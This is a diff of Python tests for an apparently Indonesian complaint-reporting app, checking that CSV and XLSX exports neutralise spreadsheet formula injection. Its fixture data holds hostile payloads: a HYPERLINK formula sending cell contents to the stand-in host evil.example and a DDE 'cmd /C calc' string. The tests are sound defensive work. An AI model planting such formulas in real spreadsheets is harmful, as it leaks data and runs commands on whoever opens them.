@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from typing import Any
 
 import httpx
@@ -16,6 +17,32 @@ from tests.html import attr, one, tag
 
 def soup(response: httpx.Response) -> BeautifulSoup:
     return BeautifulSoup(response.text, "html.parser")
+
+
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list).
+LEADS = ["=", "+", "-", "@", "\t", "\r"]
+ATTACK = '=HYPERLINK("http://evil.example/?d="&J3&K3,"Lihat bukti foto")'
+TEXTS = {
+    "=": ATTACK,
+    "+": "+62 812 3456 7890 tolong telepon saya kembali",
+    "-": "-1+1 antrean mundur terus tanpa kejelasan",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0 loket tutup",
+}
+
+
+async def formula_world(harness: AppHarness) -> dict[str, str]:
+    """A unit under the province per leading character, named with it as an admin might type
+    it, and a report there whose text starts with it where a citizen can write it (the form
+    trims a text's leading tab and carriage return). The report's text by unit name."""
+    made: dict[str, str] = {}
+    for i, lead in enumerate(LEADS):
+        name = f"{lead}SUM(1+1) Unit {i}"
+        await harness.world.unit(f"f{i}", "prov", name)
+        await harness.world.poster(f"f{i}", f"f{i}")
+        text = TEXTS.get(lead, f"Laporan biasa nomor {i} dari unit yang namanya aneh.")
+        assert (await harness.submit(f"f{i}", text=text)).status_code == 303
+        made[name] = text
+    return made
 
 
 async def test_csv_follows_the_filters_pages_through_and_hides_the_reporter(
@@ -143,3 +170,37 @@ async def test_csv_carries_category_and_tags_and_follows_those_filters(harness: 
     inbox = soup(await harness.client.get("/admin", params={"tag": "aspal"}))
     assert len(inbox.select("table.inbox a.code")) == 1
     assert one(inbox, "input[name=tag]")["value"] == "aspal"
+
+
+async def test_csv_neutralises_text_a_spreadsheet_would_run(harness: AppHarness) -> None:
+    made = await formula_world(harness)
+    ordinary = "Antrean sangat panjang dan loket tutup sebelum jam pelayanan."
+    await harness.submit(text=ordinary)
+    await harness.login("koor@prov.go.id")
+    response = await harness.client.get("/admin/export.csv")
+    header, *rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
+    unit, text = header.index("Unit"), header.index("Laporan")
+    received = header.index("Diterima")
+    by_unit = {row[unit]: row for row in rows}
+    assert len(by_unit) == len(made) + 1
+    for name, written in made.items():
+        row = by_unit["'" + name]  # a quote first: shown as text, never run
+        assert row[text] == ("'" + written if written[0] in LEADS else written)
+    plain = by_unit["Dinas Kependudukan"]  # what nobody made dangerous reads as before
+    assert plain[text] == ordinary and plain[0][0].isalnum() and plain[received][:2] == "20"
+
+
+async def test_xlsx_holds_what_people_wrote_as_text_never_a_formula(harness: AppHarness) -> None:
+    made = await formula_world(harness)
+    await harness.login("koor@prov.go.id")
+    csrf = await harness.csrf()
+    started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": ""})
+    assert await harness.app.state.exports.run_one()
+    download = await harness.client.get(f"{started.headers['location']}/file")
+    xml = zipfile.ZipFile(io.BytesIO(download.content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in xml and b"<f " not in xml
+    header, *rows = load_workbook(io.BytesIO(download.content)).active.iter_rows(values_only=True)
+    unit, text = header.index("Unit"), header.index("Laporan")
+    # Exactly as written, no quote added; XML itself reads a lone carriage return as a newline.
+    written = {row[unit]: row[text] for row in rows}
+    assert written == {name.replace("\r", "\n"): text for name, text in made.items()}
